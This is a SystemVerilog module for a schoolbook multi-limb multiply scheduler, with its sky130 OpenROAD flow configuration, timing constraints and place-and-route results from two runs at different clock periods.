<file path="src/rtl/limb_product_scheduler.sv">
// rtl/limb_product_scheduler.sv - column-wise schoolbook multiply sequencer for one shared sub-multiplier
// Optional watchdog on the sub-multiplier wait: define LIMB_SCHED_WATCHDOG_EN
module limb_product_scheduler #(
  parameter int LIMBS   = 4,
  parameter int ADDR_W  = 2,
  parameter int TIMEOUT = 255
) (
  input  logic              clk,
  input  logic              rst,
  input  logic              start,
  input  logic              karatDone,
  output logic [ADDR_W-1:0] addra,
  output logic [ADDR_W-1:0] addrb,
  output logic              karatRst,
  output logic              mulOn,
  output logic              outLoop,
  output logic              mulEnd,
  output logic              busy,
  output logic              done,
  output logic              err
);

  // Column counter needs one extra bit: k reaches 2*LIMBS-2.
  localparam int KW = ADDR_W + 1;
  localparam logic [KW-1:0] K_LAST = KW'(2 * LIMBS - 2);
  localparam logic [KW-1:0] I_LAST = KW'(LIMBS - 1);

  localparam logic [2:0] S_IDLE  = 3'd0;
  localparam logic [2:0] S_ARM   = 3'd1;
  localparam logic [2:0] S_WAIT  = 3'd2;
  localparam logic [2:0] S_ACC   = 3'd3;
  localparam logic [2:0] S_SHIFT = 3'd4;
  localparam logic [2:0] S_FIN   = 3'd5;
  localparam logic [2:0] S_DONE  = 3'd6;
`ifdef LIMB_SCHED_WATCHDOG_EN
  localparam logic [2:0] S_ERR   = 3'd7;
`endif

  // Reject illegal parameter combinations at elaboration.
  if (LIMBS < 2 || ADDR_W != $clog2(LIMBS) || TIMEOUT < 1) begin : g_bad_params
    $error("limb_product_scheduler: illegal LIMBS/ADDR_W/TIMEOUT");
  end

  logic [2:0]        state;
  logic [2:0]        state_nx;
  logic [KW-1:0]     k;
  logic [ADDR_W-1:0] addr_a;
  logic [ADDR_W-1:0] addr_b;
  logic [KW-1:0]     k_inc;
  logic [KW-1:0]     first_i;
  logic [KW-1:0]     pair_last;
  logic              last_pair;
  logic              last_col;

  // Column bookkeeping: addr_a doubles as the pair index i, addr_b as j = k - i.
  always_comb begin
    k_inc     = k + KW'(1);
    first_i   = (k_inc > I_LAST) ? (k_inc - I_LAST) : '0;
    pair_last = (k < I_LAST) ? k : I_LAST;
    last_pair = ({1'b0, addr_a} == pair_last);
    last_col  = (k == K_LAST);
  end

`ifdef LIMB_SCHED_WATCHDOG_EN
  localparam int CW = $clog2(TIMEOUT + 1);
  logic [CW-1:0] wait_cnt;
  logic          timeout;

  // Count WAIT cycles without a result; cleared in ARM so every product starts fresh.
  always_ff @(posedge clk or negedge rst) begin
    if (!rst) begin
      wait_cnt <= '0;
    end else if (state == S_ARM) begin
      wait_cnt <= '0;
    end else if (state == S_WAIT && !karatDone) begin
      wait_cnt <= wait_cnt + CW'(1);
    end
  end

  assign timeout = (state == S_WAIT) && !karatDone && (wait_cnt == CW'(TIMEOUT - 1));
`endif

  // State register.
  always_ff @(posedge clk or negedge rst) begin
    if (!rst) begin
      state <= S_IDLE;
    end else begin
      state <= state_nx;
    end
  end

  // Column counter and held limb addresses; they only move on ACC/SHIFT exits.
  always_ff @(posedge clk or negedge rst) begin
    if (!rst) begin
      k      <= '0;
      addr_a <= '0;
      addr_b <= '0;
    end else begin
      case (state)
        S_ARM, S_WAIT: ;
        S_ACC: begin
          if (!last_pair) begin
            addr_a <= addr_a + ADDR_W'(1);
            addr_b <= addr_b - ADDR_W'(1);
          end
        end
        S_SHIFT: begin
          if (last_col) begin
            addr_a <= '0;
            addr_b <= '0;
          end else begin
            k      <= k_inc;
            addr_a <= ADDR_W'(first_i);
            addr_b <= ADDR_W'(k_inc - first_i);
          end
        end
        default: begin
          k      <= '0;
          addr_a <= '0;
          addr_b <= '0;
        end
      endcase
    end
  end

  // Next-state decode.
  always_comb begin
    state_nx = S_IDLE;
    case (state)
      S_IDLE:  state_nx = start ? S_ARM : S_IDLE;
      S_ARM:   state_nx = S_WAIT;
      S_WAIT: begin
        if (karatDone) begin
          state_nx = S_ACC;
        end else begin
          state_nx = S_WAIT;
`ifdef LIMB_SCHED_WATCHDOG_EN
          if (timeout) state_nx = S_ERR;
`endif
        end
      end
      S_ACC:   state_nx = last_pair ? S_SHIFT : S_ARM;
      S_SHIFT: state_nx = last_col ? S_FIN : S_ARM;
      S_FIN:   state_nx = S_DONE;
      S_DONE:  state_nx = S_IDLE;
      default: state_nx = S_IDLE;
    endcase
  end

  // Moore outputs decoded from registered state only.
  always_comb begin
    addra    = addr_a;
    addrb    = addr_b;
    karatRst = (state != S_WAIT);
    mulOn    = (state == S_ACC);
    outLoop  = (state == S_SHIFT);
    mulEnd   = (state == S_FIN);
    busy     = (state != S_IDLE);
    done     = (state == S_DONE);
`ifdef LIMB_SCHED_WATCHDOG_EN
    err      = (state == S_ERR);
`else
    err      = 1'b0;
`endif
  end

endmodule

</file>
<file path="config.mk">
export PLATFORM = sky130hd
export DESIGN_NAME = limb_product_scheduler
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/limb_product_scheduler.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_CLOCK_PERIOD_IN_PS = 3340
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CORE_MARGIN = 2
export CORE_UTILIZATION = 55
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_4
export DETAILED_ROUTE_END_ITERATION = 7
export PLACE_DENSITY_LB_ADDON = 0.2
export SLEW_MARGIN = 30
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
</file>
<file path="constraint.sdc">
create_clock -name clk -period 3.34 [get_ports clk]
set_clock_uncertainty 0.15 [all_clocks]
set_input_delay 0.501 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.501 -clock clk [all_outputs]
set_load 0.1 [all_outputs]
</file>
==> results of run 1 <==
==> metal layers <==
metal	part of all wire, %	up-vias	GRT usage [%]
li1	-	376	-
met1	46	354	26.7
met2	46	18	32.1
met3	4.9	5	5.11
met4	2.3	0	11.9
met5	0	-	0
==> flip-flops by register name (all words and copies together), names as in the netlist <==
| register | cells |
|---|---|
| k | 3 |
| state | 3 |
| addra | 2 |
| addrb | 2 |
==> critical path: cells and delay by family (launching register included) <==
family	cells	cell delay (ps)
and+or+nand+nor	2	630
DFF	1	610
buffers and inverters	1	450
==> per-stage QoR <==
| stage | area (um2) | utilization, % | hold WS [ps] | instances |
|---|---|---|---|---|
| floorplan | 835 | - | 55.4 | 98 |
| global placement | 870 | 59.8 | 223 | 119 |
| detailed placement | 870 | 59.8 | 227 | 119 |
| CTS | 906 | 62.3 | 397 | 124 |
| global route | 906 | 62.3 | 411 | 124 |
| finish | 906 | 62.3 | 403 | 124 |
==> final timing paths <==
kind                            end  slack, ps  cells after the start       from
setup / recovery              mulOn        730                      3   state[1]
hold / removal             state[0]        400                      3  karatDone
setup reg to reg           addra[0]       1200                      6       k[0]
hold reg to reg            addrb[1]        490                      2   addrb[1]
max in group asynchronous  addrb[1]       2380                      2        rst
min in group asynchronous      k[0]        470                      2        rst
==> layout by cell type (no fill, tap or decap), drive strengths merged, types with 4 or more instances in the layout <==
| cell type | instances |
|---|---|
| dfrtp | 10 |
| o21ai | 5 |
| a21oi | 11 |
| buf | 13 |
| nor2 | 5 |
| inv | 4 |
| nand2 | 10 |
==> final cells by class <==
class                   count  share of cell area (%)
flip-flops and latches     10                    27.6
multi-input cells          75                    56.9
repair buffers             14                    8.29
inverters                   5                    2.07
well taps                  16                    2.21
clock inverters             1                   0.414
clock buffers               3                    2.49
==> logic make-up after synthesis <==
kind of cell             after synthesis
other                                  1
AO/OA/AOI/OAI                         33
buffers and inverters                 13
XOR/XNOR                               6
flip-flops                            10
AND/OR/NAND/NOR                       33
adder cells (fa/ha/maj)                2
==> flow_summary.json, run 1 <==
{
  "outcome": "finished, final reports clean",
  "pre_cts_slack_ps": 1030,
  "synthTopCellsByArea": "dfrtp_1 30%, a21oi_1 6.0%, nand2_1 4.5%",
  "clk_latency_ps": 270,
  "ant_nets": 0,
  "cts_setup_buffers": 0,
  "crit_fanout": 15,
  "ys_top_cells_by_count": "10 x a21oi_1, 10 x dfrtp_1, 10 x nand2_1, 5 x nor2_1",
  "synth_mux_area_share_pct": 0,
  "fin_ws_ps": 726,
  "fin_setup_tns_ps": 0,
  "nNetsFinal": 115,
  "slowest_delay_ps": 610,
  "synth_ff_type": "dfrtp_1",
  "synth-xor-area-share_pct": 6.33,
  "numPortBuffers": 13,
  "avgSynthCellArea_um2": 8.46,
  "finalHoldViolations": 0,
  "fmax_mhz": 383,
  "viasPerCell": 6.07,
  "synth_edf_count": 0,
  "clock_sinks": 10,
  "die_area_um2": 1830,
  "synth_fp_nets": 104,
  "die_y_um": 42.8,
  "via_count": 753,
  "crit_slowest_cell": "dfrtp_1",
  "initial_utilization_pct": 57.1,
  "regArea_um2": 250,
  "antennaDiodeCount": 0,
  "hold_path.class": "primary input to flip-flop",
  "hold_buffers": 1,
  "period_share_pct": 78.3,
  "cp-end-kind": "output port",
  "area_delta_synth_final_pct": 9.20,
  "drive_gt1_share_pct": 22.2,
  "cts.htree.levels": 1,
  "finalSetupViolCount": 0,
  "yosysUniqueCellTypes": 42,
  "async_flop_share_pct": 100,
  "grt_use_total_pct": 21.0,
  "critPathLaunchType": "flip-flop",
  "clk_pin_slew_ps": 60,
  "multiInputGateArea_um2": 515,
  "critPathKind": "flip-flop to output port",
  "die_w_um": 42.8,
  "path_cells": "nor2b_1, and2_1, buf_2",
  "cts_resized": 0,
  "yosysTopAreaCellShare_pct": 30.2,
  "antenna_found_initial": 0,
  "clock-root-buffer": "clkbuf_4",
  "cp_data_required_time_ps": 2690,
  "yosys.area_share.simple_pct": 20.8,
  "syn-cell-area_um2": 830,
  "synth_largest_area_cell": "dfrtp_1",
  "finalMaxSlewViolations": 0,
  "cts_buffer_depth": 2,
  "nFillCells": 129,
  "core_um2": 1450,
  "num_io_pins": 15,
  "min_period_ps": 2610,
  "place.gp.congestion": 0.854,
  "syn_inst": 98,
  "ys_warn_count": 0,
  "arrival_ps": 1960,
  "drcViolationCount": 0,
  "cts_tree": "yes",
  "synth-adder-area-share_pct": 3.02,
  "grt_overflow": 0,
  "ys_ff_latch": 10,
  "grt_max_degree": 16,
  "cts_inserted_buffers": 3,
  "row_count": 14,
  "synth_compound_area_share_pct": 30.9,
  "hpwlAfterDp_um": 1310,
  "routed_wl_um": 1740,
  "synth_top_family_by_area": "compound AO/OA/AOI/OAI gates",
  "ys_seq_area_share_pct": 30.2,
  "grt_pass1_vias": 641,
  "wire_per_inst_um": 14.0,
  "first_pass_iters": 4,
  "grt_first_pass_wirelength_um": 2840,
  "grt_setup_unrepaired": "no",
  "drt_iter0_markers": 23,
  "maxCapViolCount": 0
}
Power of run 1 is not shown: default switching activity piles up to over one toggle a cycle in this logic, so the estimate is an artifact.
==> run 2: changes to the inputs <==
--- a/config.mk
+++ b/config.mk
@@ -5,7 +5,7 @@
 export SDC_FILE = /design/constraint.sdc
 export NUM_CORES = 1
 export LEC_CHECK = 0
-export ABC_CLOCK_PERIOD_IN_PS = 3340
+export ABC_CLOCK_PERIOD_IN_PS = 2500
 export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
 export CORE_MARGIN = 2
 export CORE_UTILIZATION = 55
==> constraint.sdc (replaced) <==
create_clock -name clk -period 2.5 [get_ports clk]
set_clock_uncertainty 0.15 [all_clocks]
set_input_delay 0.375 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.375 -clock clk [all_outputs]
set_load 0.1 [all_outputs]
==> run 2 against run 1 <==
Via count up 1.2%. Global-route usage up 2.6 points. Utilization up 1.5 points. Hold slack worse by 150 ps. Clock-buffer cell count unchanged. Die area unchanged. Flip-flop and latch count unchanged. Largest cell class unchanged.
==> flow_summary.json, run 2 (same netlist as run 1, synthesis figures left out) <==
{
  "arrival_ps": 1830,
  "core_um2": 1450,
  "cts_buffer_depth": 2,
  "fmax_mhz": 425,
  "nFillCells": 132,
  "finalMaxSlewViolations": 0,
  "die_area_um2": 1830,
  "row_count": 14,
  "cp_data_required_time_ps": 1980,
  "critPathLaunchType": "flip-flop",
  "grt_max_degree": 14,
  "first_pass_iters": 4,
  "cts_inserted_buffers": 3,
  "routed_wl_um": 1850,
  "initial_utilization_pct": 57.1,
  "fin_setup_tns_ps": 0,
  "drcViolationCount": 0,
  "critPathKind": "flip-flop to output port",
  "multiInputGateArea_um2": 515,
  "rrSetupSlack_ps": 340,
  "cts_tree": "yes",
  "finalSetupViolCount": 0,
  "crit_fanout": 10,
  "drt_iter0_markers": 17,
  "clk_latency_ps": 280,
  "maxCapViolCount": 0,
  "wire_per_inst_um": 14.5,
  "grt_setup_unrepaired": "no",
  "grt_first_pass_wirelength_um": 3220,
  "grt_pass1_vias": 716,
  "final_common_cell": "buf_2",
  "via_count": 762,
  "cts.htree.levels": 1,
  "clk_pin_slew_ps": 70,
  "largest_registers": "k (3), state (3)",
  "num_io_pins": 15,
  "viasPerCell": 6.00,
  "numPortBuffers": 13,
  "min_period_ps": 2350,
  "period_share_pct": 94.1,
  "grt_use_total_pct": 23.6,
  "hpwlAfterDp_um": 1360,
  "antennaDiodeCount": 0,
  "regArea_um2": 250,
  "finalHoldViolations": 0,
  "area_delta_synth_final_pct": 11.9,
  "nNetsFinal": 118,
  "place.gp.congestion": 0.845,
  "hold_path.class": "primary input to flip-flop",
  "die_y_um": 42.8,
  "antenna_found_initial": 0,
  "clock-root-buffer": "clkbuf_4",
  "grt_overflow": 0,
  "drive_gt1_share_pct": 24.3,
  "cp-end-kind": "output port",
  "clock_sinks": 10,
  "outcome": "finished, final reports clean",
  "die_w_um": 42.8,
  "ant_nets": 0,
  "cts_setup_buffers": 0,
  "cts_resized": 0,
  "final_cell_mix": "13 x buf_2, 10 x nand2_1, 10 x a21oi_1, 10 x dfrtp_1, 5 x nor2_1"
}
## run 2: changes by cell type in the layout (fill, tap and decap cells not counted), sizes merged
| cell | delta |
|---|---|
| buf | +3 |
## run 2: cell type report
class / count / area share (%)
clock buffers: 3 / 2.43
clock inverters: 1 / 0.404
inverters: 5 / 2.02
multi-input cells: 75 / 55.5
flip-flops and latches: 10 / 27.0
well taps: 16 / 2.16
repair buffers: 17 / 10.5
## run 2: worst paths after layout
| path | startpoint | to | cells past startpoint |
|---|---|---|---|
| min | karatDone | state[0] | 3 |
| min reg2reg | addrb[1] | addrb[1] | 2 |
| max | state[1] | outLoop | 3 |
| max reg2reg | k[0] | addra[0] | 6 |
| min in group asynchronous | rst | k[1] | 2 |
| max in group asynchronous | rst | addra[1] | 2 |
## run 2: timing repair
item	CTS	global route
endpoints found under the setup margin	0	0
hold endpoints to repair	10	0
hold buffers	1	0
## run 2: worst max-delay path, stage by stage, from the launching register on
cell and delay, ps:
dfrtp_1 480, or3b_1 530, inv_1 110, buf_2 420
## run 2: per-stage QoR
step,instance area (um2),hold WS [ps],setup WS [ps],std cells,util [%]
4_1_cts,928,263,165,127,63.9
6_report,928,253,146,127,63.9
5_1_grt,928,276,91.3,127,63.9
3_5_place_dp,892,102,352,122,61.4
3_3_place_gp,892,98.8,390,122,61.4
2_1_floorplan,835,-70.6,99.0,98,-
## run 2: layer usage
layer	part of all wire, %	track usage (%)	vias to the layer above
li1	-	-	379
met1	48	31.8	363
met2	47	35.8	15
met3	3.2	2.98	5
met4	2.3	13.8	0
met5	0	0	-
Power of run 2 is left out for the same reason.
